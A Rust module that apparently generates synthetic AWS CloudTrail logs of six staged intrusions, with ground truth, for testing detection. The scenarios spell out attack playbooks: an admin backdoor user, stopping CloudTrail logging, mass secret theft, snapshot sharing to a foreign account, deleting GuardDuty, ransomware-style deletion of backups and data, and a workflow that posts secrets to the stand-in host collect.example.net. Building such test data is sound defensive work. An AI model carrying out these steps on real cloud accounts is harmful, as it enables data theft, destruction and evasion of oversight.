//! Attacks that can be hidden in the ordinary days of a company, each with its truth.

use super::actors::{Actor, Identity, hex_of, id_of};
use super::company::{BOTO, BROWSER, CLI, Company, DAY, FIREFOX, Job, REGION, START};
use super::people::console_login;
use crate::story::random::Random;
use crate::story::record::Call;
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// An attack: what it is called, and what tells it.
pub type Attack = (&'static str, fn(&Company) -> Plot);

/// All of them.
pub const ATTACKS: [Attack; 6] = [
    ("leaked key", leaked_key),
    ("stolen instance credentials", stolen_instance_credentials),
    ("compromised engineer", compromised_engineer),
    ("ransom", ransom),
    ("changed workflow", changed_workflow),
    ("quiet", quiet),
];

/// What an attack consists of.
pub struct Plot {
    /// What is in the key of the intruder's principal, or in the name of the person.
    who: String,
    calls: Vec<Call>,
}

/// An attack as it is in a file, with what is true of it.
pub struct AttackTruth {
    /// What is in the key of the intruder's principal, or in the name of the person.
    pub who: String,
    /// The ids of all of its events.
    pub events: BTreeSet<String>,
    /// A trail file with its records.
    pub file: Vec<u8>,
}

impl AttackTruth {
    /// Tells an attack of this company.
    pub fn of(company: &Company, (name, tell): Attack) -> Self {
        let plot = tell(company);
        let mut random = Random::new(name.len() as u64 * 7_919 + company.size.principals as u64);
        let records: Vec<String> = plot
            .calls
            .iter()
            .map(|call| call.record(&mut random))
            .collect();
        let id = |record: &String| {
            let record: Value = serde_json::from_str(record).expect("a record is JSON");
            record["eventID"]
                .as_str()
                .expect("a record has an id")
                .to_owned()
        };
        AttackTruth {
            who: plot.who,
            events: records.iter().map(id).collect(),
            file: format!("{{\"Records\":[{}]}}", records.join(",")).into_bytes(),
        }
    }
}

/// Calls of one intruder, some seconds apart.
struct Steps {
    at: i64,
    calls: Vec<Call>,
}

impl Steps {
    fn from(at: i64) -> Self {
        Steps {
            at,
            calls: Vec::new(),
        }
    }

    fn call(
        &mut self,
        who: &Actor,
        operation: (&'static str, &'static str),
        request: &Value,
    ) -> &mut Call {
        self.at += 7;
        let region = if operation.0 == "iam" {
            "us-east-1"
        } else {
            REGION
        };
        self.calls
            .push(who.asks(self.at, operation, region, request));
        self.calls.last_mut().expect("one was just added")
    }

    fn denied(&mut self, who: &Actor, operation: (&'static str, &'static str)) {
        self.at += 3;
        self.calls.push(
            who.call(self.at, operation, REGION)
                .denied("AccessDenied", "*"),
        );
    }
}

/// The key of a user stands in a public repository.
fn leaked_key(company: &Company) -> Plot {
    let account = &company.accounts[0];
    let who = company.user(
        account,
        "legacy-anton",
        "185.220.101.44",
        "aws-cli/1.29.0 Python/3.11.2 Linux/5.15 botocore/1.31.0",
    );
    let mut steps = Steps::from(START + 9 * DAY + 2 * 3600);
    steps.call(&who, ("sts", "GetCallerIdentity"), &json!({}));
    for operation in [
        ("iam", "ListUsers"),
        ("iam", "ListRoles"),
        ("iam", "GetAccountAuthorizationDetails"),
        ("ec2", "DescribeInstances"),
        ("s3", "ListBuckets"),
        ("ses", "GetSendQuota"),
        ("bedrock", "ListFoundationModels"),
    ] {
        steps.call(&who, operation, &json!({}));
    }
    for operation in [
        ("iam", "ListAccessKeys"),
        ("organizations", "DescribeOrganization"),
        ("lambda", "ListFunctions20150331"),
        ("rds", "DescribeDBInstances"),
        ("eks", "ListClusters"),
        ("ecr", "DescribeRepositories"),
        ("dynamodb", "ListTables"),
        ("kms", "ListKeys"),
        ("sns", "ListTopics"),
        ("sqs", "ListQueues"),
        ("route53", "ListHostedZones"),
        ("iam", "CreateLoginProfile"),
        ("ssm", "DescribeParameters"),
    ] {
        steps.denied(&who, operation);
    }
    steps
        .call(
            &who,
            ("iam", "CreateUser"),
            &json!({"userName": "support-backup"}),
        )
        .response = Some(json!({"user": {"userName": "support-backup"}}).to_string());
    steps.call(&who, ("iam", "AttachUserPolicy"), &json!({"userName": "support-backup", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}));
    let key = id_of("AKIA", "support-backup");
    steps.call(&who, ("iam", "CreateAccessKey"), &json!({"userName": "support-backup"})).response =
        Some(json!({"accessKey": {"userName": "support-backup", "accessKeyId": key, "status": "Active"}}).to_string());
    let made = Actor {
        identity: Identity::User {
            name: "support-backup".into(),
            key,
        },
        ..who.clone()
    };
    steps.call(&made, ("sts", "GetCallerIdentity"), &json!({}));
    steps.call(&made, ("cloudtrail", "DescribeTrails"), &json!({}));
    steps.call(
        &made,
        ("cloudtrail", "StopLogging"),
        &json!({"name": "example-trail"}),
    );
    steps.call(&made, ("secretsmanager", "ListSecrets"), &json!({}));
    for number in 0..30 {
        steps.call(
            &made,
            ("secretsmanager", "GetSecretValue"),
            &json!({"secretId": format!("prod/team-{number}/credentials")}),
        );
    }
    Plot {
        who: "legacy-anton".into(),
        calls: steps.calls,
    }
}

/// The credentials of an instance are used from elsewhere.
fn stolen_instance_credentials(company: &Company) -> Plot {
    let app = &company.apps[0];
    let at = START + 9 * DAY + 13 * 3600;
    let who = company.role(
        &app.account,
        &app.role,
        &app.instances[0],
        at,
        "45.155.205.12",
        "python-requests/2.32.3",
    );
    let mut steps = Steps::from(at);
    steps.call(&who, ("sts", "GetCallerIdentity"), &json!({}));
    steps.call(&who, ("secretsmanager", "ListSecrets"), &json!({}));
    for number in 0..60 {
        steps.call(
            &who,
            ("secretsmanager", "GetSecretValue"),
            &json!({"secretId": format!("prod/service-{number}/password")}),
        );
    }
    for number in 0..80 {
        steps.call(
            &who,
            ("ssm", "GetParameter"),
            &json!({"name": format!("/prod/service-{number}/token"), "withDecryption": true}),
        );
    }
    steps.denied(&who, ("iam", "ListUsers"));
    steps.call(&who, ("ec2", "DescribeSnapshots"), &json!({}));
    steps.call(
        &who,
        ("ec2", "CreateSnapshot"),
        &json!({"volumeId": "vol-0database"}),
    );
    steps.call(
        &who,
        ("ec2", "ModifySnapshotAttribute"),
        &json!({
            "snapshotId": "snap-0stolen0stolen0st", "attributeType": "CREATE_VOLUME_PERMISSION",
            "createVolumePermission": {"add": {"items": [{"userId": "666600001111"}]}},
        }),
    );
    Plot {
        who: app.role.clone(),
        calls: steps.calls,
    }
}

/// Somebody has the session of a platform engineer.
fn compromised_engineer(company: &Company) -> Plot {
    let mut engineers = company
        .people
        .iter()
        .filter(|person| person.job == Job::Platform);
    let mut person = engineers
        .next_back()
        .expect("each company has platform engineers")
        .clone();
    person.browser = FIREFOX;
    let at = START + 9 * DAY + 14 * 3600;
    let account = &company.accounts[0];
    let who = company.signed_in(&person, account, at - 60, "193.32.162.70", FIREFOX);
    let mut steps = Steps::from(at);
    // The portal is open in the intruder's browser: the role is taken from there.
    let taken = company.signed_in_calls(&person, account, at - 65, "193.32.162.70");
    steps.calls.extend(taken);
    steps.calls.push(console_login(&who, at));
    steps.call(&who, ("iam", "ListRoles"), &json!({}));
    let trust = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::666600001111:root"}, "Action": "sts:AssumeRole"}]});
    steps.call(
        &who,
        ("iam", "UpdateAssumeRolePolicy"),
        &json!({"roleName": "infrastructure", "policyDocument": trust.to_string()}),
    );
    steps.call(
        &who,
        ("lambda", "UpdateFunctionCode20150331v2"),
        &json!({"functionName": "orders-api-1", "zipFile": "", "dryRun": false}),
    );
    steps.call(&who, ("lambda", "AddPermission20150331v2"), &json!({"functionName": "orders-api-1", "statementId": "x", "action": "lambda:InvokeFunction", "principal": "666600001111"}));
    steps.call(&who, ("guardduty", "ListDetectors"), &json!({}));
    steps.call(
        &who,
        ("guardduty", "DeleteDetector"),
        &json!({"detectorId": hex_of(account, 32)}),
    );
    Plot {
        who: person.mail,
        calls: steps.calls,
    }
}

/// Data is made beyond recovery, with the key of a user.
fn ransom(company: &Company) -> Plot {
    let account = &company.accounts[0];
    let who = company.user(
        account,
        "legacy-beata",
        "146.70.29.9",
        "aws-sdk-go/1.55.5 (go1.22; linux; amd64)",
    );
    let mut steps = Steps::from(START + 12 * DAY + 3 * 3600);
    steps.call(&who, ("s3", "ListBuckets"), &json!({}));
    for bucket in ["invoices", "documents"] {
        steps.call(
            &who,
            ("s3", "PutBucketVersioning"),
            &json!({"bucketName": bucket, "VersioningConfiguration": {"Status": "Suspended"}}),
        );
        steps.call(&who, ("s3", "PutBucketLifecycle"), &json!({"bucketName": bucket, "LifecycleConfiguration": {"Rule": {"Status": "Enabled", "Expiration": {"Days": 1}}}}));
    }
    for number in 0..6 {
        let point = format!(
            "arn:aws:backup:{REGION}:{account}:recovery-point:{}",
            hex_of(&number.to_string(), 12)
        );
        steps.call(
            &who,
            ("backup", "DeleteRecoveryPoint"),
            &json!({"backupVaultName": "Default", "recoveryPointArn": point}),
        );
    }
    steps.call(
        &who,
        ("backup", "DeleteBackupVault"),
        &json!({"backupVaultName": "Default"}),
    );
    steps.call(
        &who,
        ("kms", "ScheduleKeyDeletion"),
        &json!({"keyId": hex_of(account, 32), "pendingWindowInDays": 7}),
    );
    for number in 0..260 {
        let mut call = who.asks(
            steps.at + number / 4,
            ("s3", "DeleteObject"),
            REGION,
            &json!({"bucketName": "invoices", "key": format!("{number}.pdf")}),
        );
        call.data = true;
        steps.calls.push(call);
    }
    steps.at += 80;
    steps.call(
        &who,
        ("s3", "DeleteBucket"),
        &json!({"bucketName": "invoices"}),
    );
    steps.call(
        &who,
        ("s3", "PutObject"),
        &json!({"bucketName": "documents", "key": "RESTORE-YOUR-FILES.txt"}),
    );
    Plot {
        who: "legacy-beata".into(),
        calls: steps.calls,
    }
}

/// A state machine is changed, started, and changed back.
fn changed_workflow(company: &Company) -> Plot {
    let mut developers = company
        .people
        .iter()
        .filter(|person| person.job == Job::Developer);
    let mut person = developers
        .next_back()
        .expect("each company has developers")
        .clone();
    person.browser = FIREFOX;
    let app = company
        .apps
        .iter()
        .find(|app| app.account == person.account)
        .expect("each account has applications");
    let at = START + 10 * DAY + 3 * 3600;
    let who = company.signed_in(&person, &person.account, at - 60, "102.129.153.20", CLI);
    let machine = format!(
        "arn:aws:states:{REGION}:{}:stateMachine:{}",
        app.account, app.role
    );
    let mut steps = Steps::from(at);
    // The portal is open in the intruder's browser: the role is taken from there.
    let taken = company.signed_in_calls(&person, &person.account, at - 65, "102.129.153.20");
    steps.calls.extend(taken);
    steps.call(&who, ("states", "ListStateMachines"), &json!({}));
    steps.call(
        &who,
        ("states", "DescribeStateMachine"),
        &json!({"stateMachineArn": machine}),
    );
    let role = format!("arn:aws:iam::{}:role/{}", app.account, app.role);
    let definition = |states: Value| {
        let definition = json!({"StartAt": "Work", "States": states}).to_string();
        json!({"stateMachineArn": machine, "roleArn": role, "definition": definition})
    };
    let work = format!(
        "arn:aws:lambda:{REGION}:{}:function:{}",
        app.account, app.role
    );
    let usual = definition(json!({"Work": {"Type": "Task", "Resource": work, "End": true}}));
    let change = definition(json!({
        "Work": {"Type": "Task", "Resource": "arn:aws:states:::aws-sdk:secretsmanager:getSecretValue", "Parameters": {"SecretId": "prod/database"}, "Next": "Send"},
        "Send": {"Type": "Task", "Resource": "arn:aws:states:::http:invoke", "Parameters": {"ApiEndpoint": "https://collect.example.net/in", "Method": "POST"}, "End": true},
    }));
    steps.call(&who, ("states", "UpdateStateMachine"), &change);
    let execution = format!(
        "arn:aws:states:{REGION}:{}:execution:{}:x1",
        app.account, app.role
    );
    steps
        .call(
            &who,
            ("states", "StartExecution"),
            &json!({"stateMachineArn": machine, "name": "x1"}),
        )
        .response = Some(json!({"executionArn": execution}).to_string());
    steps.call(
        &who,
        ("states", "GetExecutionHistory"),
        &json!({"executionArn": execution, "includeExecutionData": true}),
    );
    steps.at += 180;
    steps.call(&who, ("states", "UpdateStateMachine"), &usual);
    Plot {
        who: person.mail,
        calls: steps.calls,
    }
}

/// A user of old gets a password, and the sign-in is made without MFA.
fn quiet(company: &Company) -> Plot {
    let account = &company.accounts[0];
    let by = company.user(account, "legacy-beata", "89.187.163.5", BOTO);
    let at = START + 11 * DAY + 12 * 3600;
    let mut steps = Steps::from(at);
    steps.call(&by, ("iam", "ListUsers"), &json!({}));
    steps.call(
        &by,
        ("iam", "CreateLoginProfile"),
        &json!({"userName": "old-consultant", "passwordResetRequired": false}),
    );
    let console = Actor {
        account: account.clone(),
        identity: Identity::ConsoleUser {
            name: "old-consultant".into(),
            created: steps.at + 60,
            mfa: false,
        },
        address: "89.187.163.5".into(),
        agent: BROWSER.into(),
    };
    steps.at += 60;
    steps.calls.push(console_login(&console, steps.at));
    steps.call(&console, ("ec2", "DescribeInstances"), &json!({}));
    for number in 0..4 {
        let instance = format!("i-0{}", hex_of(&number.to_string(), 16));
        steps.call(
            &console,
            ("ec2", "GetPasswordData"),
            &json!({"instanceId": instance}),
        );
        steps.call(
            &console,
            ("ec2", "DescribeInstanceAttribute"),
            &json!({"instanceId": instance, "attribute": "userData"}),
        );
    }
    Plot {
        who: "legacy-beata".into(),
        calls: steps.calls,
    }
}
